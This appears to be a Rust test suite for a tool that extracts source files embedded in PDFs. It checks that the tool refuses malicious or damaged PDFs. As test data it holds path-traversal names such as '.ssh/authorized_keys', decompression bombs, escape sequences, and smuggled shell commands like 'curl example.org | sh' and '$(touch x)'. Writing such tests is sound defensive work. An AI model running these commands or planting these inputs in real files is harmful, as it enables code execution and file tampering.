//! PDFs that were made to do harm, or were harmed: each is refused with its own message, soon, and nothing is written.

use gnlc::archive::manifest::Overruled;
use gnlc::archive::{names, pages, read};
use proptest::prelude::*;

use super::any::config;
use super::rewrite::{deflate, file, holding, input, list, listing, page_stream, stream, with_object};
use super::tool::{Folder, run, run_soon};

/// Every command refuses a file with a message, and writes nothing.
#[track_caller]
fn refused(bytes: &[u8], code: &str, status: i32, words: &[&str]) {
    let folder = Folder::empty().with("in/bad.pdf", bytes);
    let pdf = folder.file("in/bad.pdf");
    let (pdf, out) = (pdf.to_str().expect("a plain path"), folder.file("in/out"));
    let out = out.to_str().expect("a plain path");
    for args in [&["extract", pdf, out][..], &["verify", pdf], &["build", pdf], &["info", pdf]] {
        if args[0] == "info" && status == 1 {
            continue;
        }
        run_soon(args).exits(status).reports(code, "bad.pdf").says(words);
    }
    assert_eq!(folder.names(), ["in"]);
    assert_eq!(std::fs::read_dir(folder.file("in")).expect("a folder").count(), 1);
}

/// A list of files, as it stands in a PDF.
fn json(paths: &[&str]) -> Vec<u8> {
    list(paths.iter().map(|path| input(path, "f", b"x")).collect()).to_json()
}

/// A PDF with a list that is not one of ours.
fn with_list(json: &[u8]) -> Vec<u8> {
    holding(&[("gnlc-manifest.json", stream("", json)), ("f", stream("", b"x"))])
}

fn small() -> Vec<u8> {
    let folder = Folder::small_city();
    run(&["build", folder.arg()]).exits(0);
    std::fs::read(folder.file("dossier-en.pdf")).expect("a PDF")
}

#[test]
fn the_made_up_files_of_these_tests_can_be_read_when_they_are_good() {
    let folder = Folder::empty().with("good.pdf", listing(&[("a/b.yaml", b"units: []\n"), ("c.yaml", b"")]));
    let (pdf, out) = (folder.file("good.pdf"), folder.file("out"));
    run(&["extract".as_ref(), pdf.as_os_str(), out.as_os_str()]).exits(0);
    assert_eq!(std::fs::read_to_string(out.join("a/b.yaml")).expect("a file"), "units: []\n");
}

#[test]
fn what_is_no_pdf_or_none_of_ours_is_said() {
    refused(b"", "not-a-pdf", 2, &["this is not a PDF"]);
    refused(b"dossier:\n  title: no\n", "not-a-pdf", 2, &[]);
    refused(&file("", &[], ""), "no-manifest", 2, &["holds no sources of gnlc"]);
    refused(&holding(&[("other.json", stream("", b"{}"))]), "no-manifest", 2, &[]);
    refused(&file("", &[], "/Encrypt 4 0 R"), "encrypted-pdf", 2, &["is encrypted"]);
    refused(&file("", &[], "/Encr#79pt 4 0 R"), "encrypted-pdf", 2, &[]);
}

#[test]
fn a_file_cut_off_anywhere_is_refused() {
    let whole = small();
    for part in [1, 5, 9] {
        refused(&whole[..whole.len() * part / 10], "damaged-pdf", 2, &["damaged or cut off"]);
    }
    refused(&whole[..whole.len() - 40], "damaged-pdf", 2, &[]);
    assert!(read::read(&whole).is_ok());
}

#[test]
fn lists_that_are_none_are_refused() {
    refused(&with_list(b"not JSON"), "bad-manifest", 2, &["cannot be read"]);
    refused(&with_list(b"{\"format\": 1}"), "bad-manifest", 2, &["missing field"]);
    refused(&with_list(b"{\"format\": 7, \"new\": []}"), "newer-manifest", 2, &["the shape 7"]);
    let mut foreign = list(Vec::new());
    foreign.options.lang = "en; echo".into();
    refused(&with_list(&foreign.to_json()), "bad-manifest", 2, &["names no language"]);
    let deep = [b"{\"format\": 1, \"files\": ".to_vec(), vec![b'['; 100_000]].concat();
    refused(&with_list(&deep), "bad-manifest", 2, &[]);
    let lines = "{\"path\":\"a\",\"sha256\":\"\",\"size\":0,\"attached\":null,\"missing\":null},".repeat(1_000_000);
    refused(&with_list(format!("{{\"format\":1,\"files\":[{lines}]}}").as_bytes()), "pdf-too-much", 2, &["far too large"]);
    let many: Vec<String> = (0..6_000).map(|n| format!("f{n}.yaml")).collect();
    let many: Vec<&str> = many.iter().map(String::as_str).collect();
    refused(&with_list(&json(&many)), "pdf-too-much", 2, &["6000 files"]);
}

#[test]
fn names_that_lead_elsewhere_are_refused() {
    for path in [
        "../city.yaml",
        "a/../../city.yaml",
        "/etc/city.yaml",
        "C:/city.yaml",
        "C:city.yaml",
        "a\\b.yaml",
        "\\\\server\\city.yaml",
        "",
        ".",
        "a//b.yaml",
        "a/",
        ".ssh/authorized_keys",
        "a/.git/config",
        ".gnlc/templates/x.typ",
        "a\nb.yaml",
        "a\u{1b}[2J.yaml",
        "a\0b.yaml",
        "con.yaml",
        "a/NUL",
        "Com1.tar.yaml",
        "lpt¹.yaml",
        "a./b.yaml",
        "a.yaml ",
        "--templates/../../x",
        "--font-path-0/a.ttf",
        "--font-path-999/../a.ttf",
        "--font-path-1/.x.ttf",
        "a:stream.yaml",
        "a?.yaml",
    ] {
        if names::place(path).is_ok() {
            // Taken for a folder with an odd name, and not for the option.
            assert!(path.starts_with("--font-path-0"), "{path}");
            continue;
        }
        refused(&with_list(&json(&[path])), "bad-name", 2, &["whose path"]);
    }
    assert_eq!(names::place("--templates/a/b.typ").as_deref(), Ok(".gnlc/templates/a/b.typ"));
    assert_eq!(names::place("--font-path-2/a.ttf").as_deref(), Ok(".gnlc/fonts-2/a.ttf"));
    assert_eq!(names::place("Tài liệu/Chứng cứ.yaml").as_deref(), Ok("Tài liệu/Chứng cứ.yaml"));
    refused(&with_list(&json(&[&"a/".repeat(30), &"x".repeat(500)])), "bad-name", 2, &[]);
}

#[test]
fn two_files_that_would_be_one_are_refused() {
    for [one, other] in [
        ["a.yaml", "a.yaml"],
        ["a.yaml", "A.yaml"],
        ["Tài.yaml", "Ta\u{300}i.yaml"],
        ["a", "a/b.yaml"],
        ["a/b.yaml", "A"],
        ["--templates/a.typ", "--templates/A.typ"],
    ] {
        refused(&with_list(&json(&[one, other])), "bad-name", 2, &["two files that would be one"]);
    }
    let twice = holding(&[("gnlc-manifest.json", stream("", &json(&["a"]))), ("f", stream("", b"x")), ("f", stream("", b"y"))]);
    refused(&twice, "bad-name", 2, &["two files that would be one: `f`"]);
}

#[test]
fn files_that_are_not_what_the_list_says_are_named() {
    refused(
        &holding(&[("gnlc-manifest.json", stream("", &json(&["a.yaml"]))), ("f", stream("", b"y"))]),
        "altered-source",
        1,
        &["`a.yaml` has other contents"],
    );
    refused(&holding(&[("gnlc-manifest.json", stream("", &json(&["a.yaml"])))]), "altered-source", 1, &["`a.yaml` is not there"]);
    let broken =
        [b"<</Length 9/Filter/FlateDecode>>\nstream\n".to_vec(), b"123456789".to_vec(), b"\nendstream".to_vec()].concat();
    refused(
        &holding(&[("gnlc-manifest.json", stream("", &json(&["a.yaml"]))), ("f", broken)]),
        "altered-source",
        1,
        &["`a.yaml` is damaged"],
    );
}

#[test]
fn what_becomes_gigabytes_is_not_unpacked() {
    let zeros = vec![0; 100_000_000];
    let bomb = stream("", &zeros);
    refused(&holding(&[("gnlc-manifest.json", bomb.clone())]), "pdf-too-much", 2, &["far too large"]);
    refused(
        &holding(&[("gnlc-manifest.json", stream("", &json(&["a.yaml"]))), ("f", bomb.clone())]),
        "pdf-too-much",
        2,
        &["a.yaml"],
    );
    // Packed twice.
    let inner = deflate(&zeros);
    let data = deflate(&inner);
    let twice = [
        format!("<</Length {}/Filter[/FlateDecode/FlateDecode]>>\nstream\n", data.len()).into_bytes(),
        data,
        b"\nendstream".to_vec(),
    ]
    .concat();
    refused(&holding(&[("gnlc-manifest.json", twice)]), "damaged-pdf", 2, &[]);
    // A store of objects, and a list of objects.
    let store = [
        format!("<</Type/ObjStm/N 1/First 4/Length {}/Filter/FlateDecode>>\nstream\n", inner.len()).into_bytes(),
        inner,
        b"\nendstream".to_vec(),
    ]
    .concat();
    let whole = with_store(&store);
    refused(&whole, "pdf-too-much", 2, &["far too large"]);
    // A list that says a file is huge.
    let mut big = input("a.yaml", "f", b"x");
    big.size = 4_000_000_000;
    refused(&with_list(&list(vec![big]).to_json()), "pdf-too-much", 2, &["4000 MB"]);
}

/// A PDF whose catalog lies in a store of objects.
fn with_store(store: &[u8]) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n".to_vec();
    let at = out.len();
    out.extend_from_slice(&[b"4 0 obj\n", store, b"\nendobj\n"].concat());
    let start = out.len();
    let mut rows = Vec::new();
    for (kind, second, third) in [(0u8, 0u32, 0u8), (2, 4, 0), (0, 0, 0), (0, 0, 0), (1, at as u32, 0), (1, start as u32, 0)] {
        rows.push(kind);
        rows.extend_from_slice(&second.to_be_bytes());
        rows.push(third);
    }
    let table = stream("/Type/XRef/Size 6/W[1 4 1]/Root 1 0 R", &rows);
    out.extend_from_slice(&[b"5 0 obj\n", &table[..], b"\nendobj\n"].concat());
    out.extend_from_slice(format!("startxref\n{start}\n%%EOF\n").as_bytes());
    out
}

#[test]
fn what_goes_round_in_a_circle_or_too_deep_is_refused() {
    let names = |node: &str| file("/Names<</EmbeddedFiles 4 0 R>>", &[node.as_bytes().to_vec()], "");
    refused(&names("<</Kids[4 0 R]>>"), "damaged-pdf", 2, &["round in a circle"]);
    refused(&names(&format!("<</Kids[{}]>>", "<<>>".repeat(30_000))), "pdf-too-much", 2, &["more attached files"]);
    refused(&names("4 0 R"), "damaged-pdf", 2, &["object 4"]);
    refused(&names(&format!("<</A {}>>", "[".repeat(1_000_000))), "damaged-pdf", 2, &["object 4"]);
    refused(&names(&"<</A".repeat(300_000)), "damaged-pdf", 2, &["object 4"]);
    // A list of objects before which there is itself.
    let once = file("", &[], "");
    let text = String::from_utf8_lossy(&once).into_owned();
    let start = text.find("xref\n0").expect("a list");
    refused(&file("", &[], &format!("/Prev {start}")), "damaged-pdf", 2, &[]);
    let own = "<</Length 4 0 R>>\nstream\nx\nendstream";
    refused(&holding(&[("gnlc-manifest.json", own.as_bytes().to_vec())]), "damaged-pdf", 2, &[]);
    // Sizes of which no list is made.
    let huge = stream("/Type/XRef/Size 4000000000/W[1 4 1]/Index[0 4000000000]/Root 1 0 R", b"");
    let mut out = b"%PDF-1.7\n".to_vec();
    let at = out.len();
    out.extend_from_slice(&[b"5 0 obj\n", &huge[..], b"\nendobj\nstartxref\n", at.to_string().as_bytes(), b"\n%%EOF"].concat());
    refused(&out, "damaged-pdf", 2, &[]);
}

#[test]
fn pages_that_go_round_in_a_circle_stop_nobody() {
    let whole = small();
    let read = hayro_syntax::Pdf::new(whole.clone()).expect("a PDF");
    let catalog: hayro_syntax::object::Dict<'_> = read.xref().get(read.xref().root_id()).expect("a catalog");
    let number = catalog.get_ref("Pages").expect("pages").obj_number;
    let circle = with_object(&whole, number, format!("<</Type/Pages/Count 1/Kids[{number} 0 R {number} 0 R]>>").as_bytes());
    let folder = Folder::empty().with("bad.pdf", &circle);
    let pdf = folder.file("bad.pdf");
    run_soon(&["verify".as_ref(), pdf.as_os_str()]).exits(1).reports("not-the-same", "bad.pdf").says(&["can no longer be read"]);
    assert!(pages::texts(&circle).is_err());
    // A page that is drawn with lists in lists without end.
    let (number, _) = page_stream(&whole, 5);
    let deep = with_object(&whole, number, &stream("", &vec![b'['; 3_000_000]));
    folder.write("deep.pdf", &deep);
    let pdf = folder.file("deep.pdf");
    run_soon(&["verify".as_ref(), pdf.as_os_str()]).exits(1).reports("not-the-same", "deep.pdf").says(&["page 5"]);
    assert!(pages::texts(&deep).is_err());
    // As deep as is let through, a reader goes without harm.
    let nested = [vec![b'['; 19_000], vec![b']'; 19_000]].concat();
    assert!(pages::texts(&with_object(&whole, number, &stream("", &nested))).is_ok());
}

/// A PDF whose attached files are these pairs of a name and an object.
fn naming(pairs: &str, objects: &[Vec<u8>]) -> Vec<u8> {
    file(&format!("/Names<</EmbeddedFiles<</Names[{pairs}]>>>>"), objects, "")
}

#[test]
fn a_large_part_that_is_named_over_and_over_is_not_read_for_minutes() {
    // One object of many parts, meant by every name.
    let large = format!("<</A[{}]>>", "0 ".repeat(40_000));
    refused(&naming(&"(a) 4 0 R ".repeat(20_000), &[large.into_bytes()]), "pdf-too-much", 2, &["far too often"]);
    // An object behind megabytes of nothing.
    let spaces = [b"<</A ".to_vec(), vec![b' '; 2_000_000], b"1>>".to_vec()].concat();
    refused(&naming(&"(a) 4 0 R ".repeat(20_000), &[spaces]), "pdf-too-much", 2, &["far too often"]);
    // One of more parts than anything has.
    refused(&naming("(a) 4 0 R", &["<<>>".repeat(60_000).into_bytes()]), "no-manifest", 2, &[]);
    refused(&naming("(a) 4 0 R", &[format!("[{}]", "<</A<<>>>>".repeat(60_000)).into_bytes()]), "damaged-pdf", 2, &["object 4"]);
    // A store that says it holds millions.
    let numbers: String = (0..1_000_000).map(|n| format!("{:07} 0 ", n * 7919 % 1_000_003)).collect();
    let data = deflate(numbers.as_bytes());
    let head = format!("<</Type/ObjStm/N 1000000/First 10000000/Length {}/Filter/FlateDecode>>\nstream\n", data.len());
    refused(&with_store(&[head.into_bytes(), data, b"\nendstream".to_vec()].concat()), "damaged-pdf", 2, &["object 4"]);
}

#[test]
fn what_is_printed_of_a_list_cannot_give_commands() {
    let folder = Folder::empty();
    let mut foreign = list(vec![input("a.yaml", "f", b"x")]);
    foreign.command = "gnlc build . \u{1b}]0;x\u{7} && curl example.org | sh".into();
    foreign.about.title = "paid \u{202e}dekcehc\u{2066}\u{1b}[2J".into();
    folder.write("a.pdf", with_list(&foreign.to_json()));
    let pdf = folder.file("a.pdf");
    for args in [
        &["info", pdf.to_str().expect("a path")][..],
        &["extract", pdf.to_str().expect("a path"), folder.file("o").to_str().expect("a path")],
    ] {
        run(args).exits(0).says_nothing_of(&["curl", "\u{1b}", "\u{7}", "\u{202e}", "\u{2066}"]).says(&["gnlc build "]);
    }
    // A reason in the list, which is printed in a command, is an argument and stays one.
    foreign.options.overruled = Some(Overruled { by: "An".into(), because: "$(touch x) `id` it's \"so\"".into() });
    folder.write("b.pdf", with_list(&foreign.to_json()));
    run(&["info", folder.file("b.pdf").to_str().expect("a path")])
        .exits(0)
        .says(&[r#"--overruled-by "An" --because '$(touch x) `id` it'\''s "so"'"#]);
    foreign.options.overruled = Some(Overruled { by: "An\nrm -r x".into(), because: "so".into() });
    refused(&with_list(&foreign.to_json()), "bad-manifest", 2, &["nobody who overruled"]);
}

#[test]
fn a_version_that_looks_like_this_one_is_none() {
    let mut odd = list(Vec::new());
    for version in [concat!(env!("CARGO_PKG_VERSION"), "\u{200b}"), " ", "", "0.1.0\n", "0.1.0 (proved)"] {
        odd.gnlc = version.into();
        refused(&with_list(&odd.to_json()), "bad-manifest", 2, &["no version of gnlc"]);
    }
}

#[cfg(unix)]
#[test]
fn nothing_is_written_through_a_link_or_read_from_a_pipe() {
    use std::os::unix::fs::symlink;
    let city = Folder::small_city().with("round.csv", "number,remark\n1,Which year?\n").with("remarks/old.yaml", "remarks: []\n");
    let outside = Folder::empty();
    let csv = city.file("round.csv");
    let csv = csv.to_str().expect("a path");
    symlink(outside.file("x.yaml"), city.file("remarks/round.yaml")).expect("a link");
    run(&["remarks", "import", csv, city.arg()]).exits(2).reports("cannot-write", "round.yaml");
    run(&["freeze", "one", city.arg()]).exits(0);
    std::fs::remove_file(city.file("frozen/list.txt")).expect("a file");
    symlink(outside.file("list.txt"), city.file("frozen/list.txt")).expect("a link");
    run(&["freeze", "two", city.arg()]).exits(2).reports("cannot-write", "frozen/two").says(&["not an ordinary file"]);
    assert!(!city.file("frozen/two").exists());
    assert_eq!(outside.names(), [""; 0]);
    // Who waits for a pipe waits for ever.
    std::fs::remove_file(city.file("remarks/round.yaml")).expect("a link");
    let pipe =
        |name: &str| assert!(std::process::Command::new("mkfifo").arg(city.file(name)).status().expect("mkfifo").success());
    std::fs::remove_file(city.file("frozen/list.txt")).expect("a link");
    pipe("frozen/list.txt");
    pipe("pipe.csv");
    run_soon(&["diff", city.arg(), "--frozen"]).exits(0);
    run_soon(&["remarks", "import", city.file("pipe.csv").to_str().expect("a path"), city.arg()])
        .exits(2)
        .reports("cannot-read", "pipe.csv");
    run_soon(&["freeze", "two", city.arg()]).exits(2).reports("cannot-write", "frozen/two");
}

#[test]
fn remarks_without_number_are_refused_soon() {
    let lines: String = (0..200_000).map(|n| format!("{n},Why?\n")).collect();
    let city = Folder::small_city().with("many.csv", format!("number,remark\n{lines}"));
    let csv = city.file("many.csv");
    run_soon(&["remarks", "import", csv.to_str().expect("a path"), city.arg()])
        .exits(1)
        .reports("bad-remarks", "many.csv")
        .says(&["more than 5000 remarks"]);
    assert!(!city.file("remarks").exists());
}

proptest! {
    #![proptest_config(config(48))]

    #[test]
    fn no_damage_ends_in_a_panic(places in proptest::collection::vec((any::<proptest::sample::Index>(), any::<u8>()), 1..6)) {
        static WHOLE: std::sync::LazyLock<Vec<u8>> = std::sync::LazyLock::new(small);
        let mut bytes = WHOLE.clone();
        for (place, byte) in places {
            let at = place.index(bytes.len());
            bytes[at] = byte;
        }
        let _ = read::read(&bytes);
        let _ = pages::digests(&bytes);
        let _ = pages::texts(&bytes);
    }
}

proptest! {
    #![proptest_config(config(2048))]

    #[test]
    fn no_bytes_end_in_a_panic(body in "[0-9a-zA-Z<>\\[\\]()/ %\n#]{0,200}", trailer in "[0-9a-zA-Z<>\\[\\]()/ \n]{0,40}") {
        let bytes = file("/Names<</EmbeddedFiles 4 0 R>>", &[body.into_bytes()], &trailer);
        let _ = read::read(&bytes);
        let _ = pages::digests(&bytes);
    }

    #[test]
    fn every_place_lies_inside(path in "[a-c./\\\\:A-]{0,12}|(--templates/|--font-path-1/)?[a-c./]{0,9}") {
        if let Ok(place) = names::place(&path) {
            let parts: Vec<&str> = place.split('/').collect();
            prop_assert!(!place.starts_with('/') && !place.contains(['\\', ':']));
            prop_assert!(parts.iter().enumerate().all(|(n, p)| !p.is_empty() && (!p.starts_with('.') || n == 0 && *p == ".gnlc")), "{}", place);
        }
    }
}
